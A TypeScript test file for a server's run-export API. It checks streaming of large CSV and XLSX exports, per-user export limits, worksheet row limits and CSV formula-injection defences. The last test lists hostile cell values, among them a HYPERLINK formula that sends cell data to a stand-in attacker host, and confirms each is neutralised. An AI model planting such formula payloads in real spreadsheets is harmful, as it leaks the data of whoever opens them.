// Exports of a large run through the API of a real server (issue 10, items 3 and 11): the
// file streams from the database in slices and the server keeps answering other requests
// while it is written; one export per user at a time; a run too long for a worksheet is
// refused with 422 before a byte is sent; CSV text cells that a spreadsheet would run as
// a formula are neutralised, numbers stay numbers. SQLite, and PostgreSQL when
// FILMSWEEP_TEST_PG_URL is set.
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { maxXlsxRows } from '../shared/export/xlsx.js';
import { makeBigRun } from './helpers/big-run.js';
import { startTestServer, type Client, type TestServer } from './helpers/server.js';
import { STORE_KINDS, createTestDatabase, type TestDatabase } from './helpers/stores.js';

/** 120,000 points × 2 methods: the size of the run in the issue (240,000 results). */
const POINTS = 120_000;
const RESULTS = 2 * POINTS;

interface LatencyProbe {
  samples: number[];
  stop(): Promise<void>;
}

/**
 * Asks GET /api/health over and over (one at a time, 20 ms apart) and records, for each
 * answer, the time since the previous answer: a server that stops answering for a while
 * shows as one long gap, whether the request was waiting or not yet sent.
 */
function probeLatency(url: string): LatencyProbe {
  const samples: number[] = [];
  let running = true;
  const loop = (async () => {
    let last = performance.now();
    while (running) {
      await (await fetch(`${url}/api/health`)).text();
      const now = performance.now();
      samples.push(now - last);
      last = now;
      await new Promise((r) => setTimeout(r, 20));
    }
  })();
  return {
    samples,
    stop: async () => {
      running = false;
      await loop;
    },
  };
}

const percentile = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor((p / 100) * xs.length))];

/**
 * What "keeps answering" means here, on a 2-core machine shared with other work (the OS
 * alone can hold a process for a few hundred ms): health answers keep coming all through
 * the export (before streaming, none came until the whole file was built: a 240,000-result
 * CSV held the server for seconds, an XLSX for a minute), the typical gap between two
 * answers (20 ms of it the probe's own pause) under 150 ms, 95 % under 750 ms. The longest
 * gap is printed with the other figures.
 */
function expectResponsive(samples: number[], seconds: number) {
  expect(samples.length).toBeGreaterThan(Math.max(5, seconds * 3));
  expect(percentile(samples, 50)).toBeLessThan(150);
  expect(percentile(samples, 95)).toBeLessThan(750);
}

describe.each(STORE_KINDS)('on %s', (kind) => {
  let database: TestDatabase;
  let s: TestServer;
  let viewer: Client;
  let big: number;

  beforeAll(async () => {
    database = await createTestDatabase(kind, 'exports');
    s = await startTestServer({}, database.location);
    viewer = await s.signIn(s.emails.viewer);
    big = await makeBigRun(s.store, { points: POINTS });
  }, 180_000);
  afterAll(async () => {
    await s?.close();
    await database?.drop();
  });

  describe('item 3: exports stream and the server keeps answering', () => {
    it('streams a 240,000-result CSV export while GET /api/health keeps answering (gaps: median < 150 ms, 95 % < 750 ms)', async () => {
      const probe = probeLatency(s.url);
      const t0 = performance.now();
      const res = await viewer.request('GET', `/api/runs/${big}/export?format=csv`);
      expect(res.status).toBe(200);
      let lines = 0;
      let bytes = 0;
      let firstLine = '';
      for await (const part of Readable.fromWeb(res.body as never)) {
        const text = (part as Buffer).toString('latin1');
        if (!firstLine) firstLine = text.slice(0, text.indexOf('\r\n'));
        bytes += text.length;
        for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1)) lines++;
      }
      const seconds = (performance.now() - t0) / 1000;
      await probe.stop();
      expect(firstLine).toBe('method,Re [-],Pr [-],heating,Nu [-],f [-],St [?],j [?],flags');
      expect(lines).toBe(RESULTS + 1);
      const max = Math.max(...probe.samples);
      console.log(`[${kind}] CSV export of ${RESULTS} results: ${(bytes / 1e6).toFixed(1)} MB in ${seconds.toFixed(1)} s; ` +
        `health during it: ${probe.samples.length} answers, gap between answers median ${percentile(probe.samples, 50).toFixed(0)} ms, 95 % ${percentile(probe.samples, 95).toFixed(0)} ms, max ${max.toFixed(0)} ms`);
      expectResponsive(probe.samples, seconds);
    }, 180_000);

    it('streams a 240,000-result XLSX export (exceljs streaming writer) while GET /api/health keeps answering (gaps: median < 150 ms, 95 % < 750 ms)', async () => {
      const probe = probeLatency(s.url);
      const t0 = performance.now();
      const res = await viewer.request('GET', `/api/runs/${big}/export?format=xlsx`);
      expect(res.status).toBe(200);
      const bytes = Buffer.from(await res.arrayBuffer());
      const seconds = (performance.now() - t0) / 1000;
      await probe.stop();
      const max = Math.max(...probe.samples);
      console.log(`[${kind}] XLSX export of ${RESULTS} results: ${(bytes.length / 1e6).toFixed(1)} MB in ${seconds.toFixed(1)} s; ` +
        `health during it: ${probe.samples.length} answers, gap between answers median ${percentile(probe.samples, 50).toFixed(0)} ms, 95 % ${percentile(probe.samples, 95).toFixed(0)} ms, max ${max.toFixed(0)} ms`);
      expectResponsive(probe.samples, seconds);
      // Read back with exceljs's streaming reader: every row is there, numbers as numbers.
      const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(bytes), { sharedStrings: 'cache', worksheets: 'emit' });
      // A sheet's name is known while it streams only when the zip holds workbook.xml before
      // it; otherwise the reader calls it Sheet<n>, and the name is looked up once all is read.
      type SheetReader = { id: string | number; name: string };
      const read: { sheet: SheetReader; rows: number; second?: unknown[] }[] = [];
      for await (const sheet of reader) {
        const entry: (typeof read)[number] = { sheet: sheet as unknown as SheetReader, rows: 0 };
        read.push(entry);
        for await (const row of sheet) {
          entry.rows++;
          if (row.number === 2) entry.second = row.values as unknown[];
        }
      }
      const book = reader as unknown as { workbookRels?: { Id: string; Target: string }[]; model?: { sheets?: { rId: string; name: string }[] } };
      const nameOf = ({ id, name }: SheetReader) => {
        if (!/^Sheet\d+$/.test(name)) return name;
        const rel = book.workbookRels?.find((r) => r.Target === `worksheets/sheet${id}.xml`);
        return book.model?.sheets?.find((x) => x.rId === rel?.Id)?.name ?? name;
      };
      const rowsBySheet: Record<string, number> = {};
      let sample: unknown[] | undefined;
      for (const e of read) {
        rowsBySheet[nameOf(e.sheet)] = e.rows;
        if (nameOf(e.sheet) === 'Results') sample = e.second;
      }
      expect(rowsBySheet.Results, JSON.stringify(rowsBySheet)).toBe(RESULTS + 1);
      expect(rowsBySheet.Run).toBeGreaterThan(10);
      expect(typeof sample![2]).toBe('number'); // Re
      expect(sample![4]).toBe(true); // heating
    }, 300_000);

    it('lets one user run one export at a time (429 for a second meanwhile), then the next', async () => {
      const first = await viewer.request('GET', `/api/runs/${big}/export?format=json`);
      expect(first.status).toBe(200);
      const second = await viewer.json('GET', `/api/runs/${big}/export?format=csv`);
      expect(second.status).toBe(429);
      expect(second.body.error.message).toMatch(/export in progress/);
      // Reading the first to its end frees the slot.
      const parsed = JSON.parse(await first.text());
      expect(parsed.rows).toHaveLength(RESULTS);
      const third = await viewer.request('GET', `/api/runs/${big}/export?format=md`);
      expect(third.status).toBe(200);
      const md = await third.text();
      expect(md.split('\n').filter((l) => l.startsWith('| gnielinski') || l.startsWith('| dittus-boelter'))).toHaveLength(RESULTS);
    }, 180_000);

    it('refuses an XLSX export longer than a worksheet with 422 and a clear message, before sending anything', async () => {
      // A worksheet's limit is 1,048,575 rows. Writing that many results would take the test
      // a minute, so this run's stored count says so: the limit is checked on the run's count.
      const run = await makeBigRun(s.store, { points: 10, name: 'sheet-limit' });
      await s.store.db.updateTable('runs').set({ results_count: maxXlsxRows + 1 }).where('id', '=', run).execute();
      const r = await viewer.json('GET', `/api/runs/${run}/export?format=xlsx`);
      expect(r.status).toBe(422);
      expect(r.body.error.message).toBe(`run ${run} has ${maxXlsxRows + 1} results; an XLSX sheet holds at most ${maxXlsxRows}: export CSV or JSON instead`);
      expect((await viewer.request('GET', `/api/runs/${run}/export?format=csv`)).status).toBe(200);
    });
  });

  describe('item 11: CSV formula injection', () => {
    it('prefixes text cells that begin with = + - @ (or a tab or CR) with a quote, and keeps negative numbers as numbers', async () => {
      // A pushed run can carry any flag text; a flag is the text cell an attacker controls here.
      const researcher = await s.signIn(s.emails.researcher);
      const { token } = (await researcher.json('POST', '/api/tokens', { json: { name: 'ci' } })).body;
      const yaml = 'name: csv-cells\nconfiguration: pipe\nmethods: [gnielinski]\nsweep:\n  over:\n    Re: [1.0e4, 2.0e4, 3.0e4, 4.0e4, 5.0e4]\n    Pr: [5]\n';
      const { sha256Hex } = await import('../shared/study/sha256.js');
      const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(1,2)', '\tcmd'];
      const rows = hostile.map((flag, i) => ({
        method: 'gnielinski',
        inputs: { Re: (i + 1) * 1e4, Pr: 5 },
        outputs: { Nu: 50 + i, q: -1250.5 - i },
        flags: [flag],
      }));
      const body = {
        study: { name: 'csv-cells', configuration: 'pipe' },
        yaml,
        hash: sha256Hex(yaml),
        run: { status: 'done', started_at: null, finished_at: null, git_commit: null, host: 'ci', workers: 1, points_total: 5, methods: [{ id: 'gnielinski', version: 1 }] },
        rows,
      };
      const pushed = await s.anonymous().json('POST', '/api/runs/push', { headers: { authorization: `Bearer ${token}` }, json: body });
      expect(pushed.status, JSON.stringify(pushed.body)).toBe(201);
      const csv = await (await viewer.request('GET', `/api/runs/${pushed.body.run.id}/export?format=csv`)).text();
      const { parse } = await import('csv-parse/sync');
      const records = parse(csv) as string[][];
      const header = records[0];
      const flags = records.slice(1).map((r) => r[header.indexOf('flags')]);
      expect(flags).toEqual(hostile.map((f) => `'${f}`));
      expect(records.slice(1).map((r) => r[header.indexOf('q [W/m^2]')])).toEqual(['-1250.5', '-1251.5', '-1252.5', '-1253.5', '-1254.5']);
      // No cell of the file begins with a formula character unless it is a number.
      for (const record of records) for (const cell of record) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
    });
  });
});
